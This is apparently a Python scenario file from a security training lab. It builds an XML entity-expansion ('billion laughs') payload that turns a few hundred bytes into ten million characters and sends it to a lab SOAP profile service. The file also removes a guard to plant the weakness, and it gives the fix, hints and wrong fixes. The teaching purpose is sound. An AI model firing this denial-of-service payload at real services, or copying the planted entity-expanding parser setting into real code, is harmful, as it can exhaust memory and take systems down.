"""A few hundred bytes that become ten million characters (entity expansion)."""

from __future__ import annotations

import re

from scenarios.lab import soap
from scenarios.lab.model import Control, Outcome, Plant, Remove, Scenario, WrongFix
from scenarios.lab.target import Target

DOCTYPE = (
    f'<!DOCTYPE x [<!ENTITY a "{"boom" * 25}"><!ENTITY b "{"&a;" * 100}"><!ENTITY c "{"&b;" * 100}">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
"""100 × 100 × 100 × 10: ten million. A few lines more would be gigabytes; the lab's parser has a bound."""


def attack(lab: Target) -> Outcome:
    """Send it as a name. The schema refuses so long a one, and says how long it was."""
    fields = {"username": "bob", "version": "1", "fullName": "&d;"}
    answer = soap.call(lab, "bob", "UpdateProfile", fields, doctype=DOCTYPE)
    said = re.search(rb"length of '(\d+)'", answer.body)
    built = int(said[1]) if said else 0
    sent = len(soap.message("UpdateProfile", fields, DOCTYPE))
    return Outcome(
        breached=built > 1_000_000,
        got=f"{built:,} characters built from {sent} bytes" if built else "a refusal before a declaration was read",
        measures={"characters that the parser built": f"{built:,}"},
    )


def benign(lab: Target) -> bool:
    """Bob reads his profile, in which & and < are written as they must be."""
    return soap.call(lab, "bob", "ReadProfile", {"username": "bob"}).status == 200


SCENARIO = Scenario(
    id="soap-bomb",
    title="A bomb of a thousand bytes",
    story=(
        "A shorthand may stand for a hundred others, and each of those for a hundred more. The message is small enough "
        "for every limit of size. What the parser makes of it is not."
    ),
    references=("CWE-776", "OWASP API4:2023", "SOAP 1.1 section 3"),
    claims=("C7",),
    difficulty=2,
    minutes=5,
    weaknesses=(Remove("profiles-soap", "SoapGuard"), Plant("profiles", "expands-entities")),
    control=Control(
        name="no document type declaration, at the gateway and in the service's parser",
        where="gateway",
        lines="- {type: SoapGuard, wsdl: profiles.wsdl, maxElements: 1000, maxText: 10000}",
        elsewhere="# lxml, in the service\netree.XMLParser(resolve_entities=False, huge_tree=False)",
    ),
    attack=attack,
    benign=benign,
    hints=(
        "How large is the message, and what is it after its shorthands are replaced?",
        "A limit on bytes is checked before they are replaced.",
        "Entities can be declared in one place only: the DOCTYPE, which SOAP forbids.",
    ),
    wrong_fixes=(
        WrongFix("a smaller limit of bytes", "This has about a thousand; honest messages have as many."),
        WrongFix("forbid entities inside of entities", "One long entity, named often, does it, too."),
        WrongFix("more memory", "Each shorthand more costs the attacker 40 bytes, and multiplies by a hundred."),
    ),
    questions=(
        (
            "Do parsers not refuse this by themselves?",
            "Today's libxml2 and expat do, so the lab expands by hand, as older ones did. Which ones do you run?",
        ),
        ("What does JSON have of this?", "No entities; but nesting, and numbers of a million digits."),
    ),
)
